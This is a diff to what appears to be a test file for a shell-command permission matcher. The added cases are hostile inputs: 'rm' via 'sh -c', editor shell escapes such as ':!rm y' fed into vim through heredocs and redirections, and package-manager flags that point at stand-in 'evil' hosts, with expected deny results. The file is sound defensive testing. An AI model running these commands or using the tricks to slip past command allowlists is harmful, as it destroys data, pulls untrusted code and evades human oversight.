@@ -631,6 +631,8 @@ bash -ic ls
 bash --login -c ls
 bash -c - 'rm x'
 bash - x
+sh -c -- 'rm x'
+bash -c -x -- 'rm x'
 bash +c 'ls'
 npm urn evil
 npm it
@@ -644,7 +646,11 @@ npm pack x
 yarn evil
 pnpm evil
 yarn --offline
+yarn list
+yarn ls
+pnpm explain
 pip download x
+pip list -f https://evil
 pip wheel x
 pip list --python=x
 uv sync
@@ -680,6 +686,9 @@ echo x | psql y
 sqlite3 x < y
 dc x <<< '!rm y'
 cat x | (vim y)
+cat x | timeout 5 vim y
+vim y < <(cat x)
+vim y <&3
 cat x | while true; do vim y; done
 { vim x; } < y
 < y vim x
@@ -780,6 +789,7 @@ TRICKS = [
     "git commit -m x --allow-empty -e <<'E'\n:!rm y\nE",
     "git commit --amend <<'E'\n:!rm y\nE",
     "cat <<E | vim -\nx\nE",
+    "bash <<'E'\nvim x\n:!rm y\nE",
     "ls | xargs -I% sh -c 'echo %'",
     "ls l\n\\\nrm'x'",
     "[[x == y ]] && ls",
@@ -1096,6 +1106,9 @@ def test_a_rule_for_every_line_allows_all_that_can_be_read(line: str) -> None:
         ("bash:cargo build *", "cargo build --config x", False),
         ("bash:mvn test *", "mvn test -q", True),
         ("bash:mvn test *", "mvn test exec:java", False),
+        ("bash:mvn test *", "mvn test -s evil.xml", False),
+        ("bash:gem install *", "gem install -s https://evil x", False),
+        ("bash:rake test *", "rake test -e evil", False),
         ("bash:pip install -r requirements.txt", "pip install -r requirements.txt", True),
         ("bash:sed -n *", "sed -n '1e rm x' y", False),
         ("bash:awk -f count.awk *", "awk -f count.awk x", True),
